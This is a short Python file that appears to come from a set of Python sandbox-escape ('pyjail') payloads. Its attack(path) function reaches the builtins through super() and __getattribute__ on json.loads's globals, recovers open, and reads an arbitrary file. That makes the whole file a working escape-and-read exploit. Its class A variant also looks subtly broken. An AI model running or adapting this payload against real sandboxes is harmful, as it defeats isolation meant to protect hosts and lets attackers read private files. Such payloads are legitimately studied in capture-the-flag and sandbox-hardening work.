# The same by `super`.
# after: read
# source: pyjail: object.__getattribute__
import json
class A:
    def take(self, f):
        return super().__getattribute__.__func__(f, "__globals__")
class B:
    def take(self, f):
        return super(B, self).__getattribute__("__class__").__getattribute__(f, "__globals__")
def attack(path, **_):
    return {"text": B().take(json.loads)["__builtins__"]["open"](path).read()}
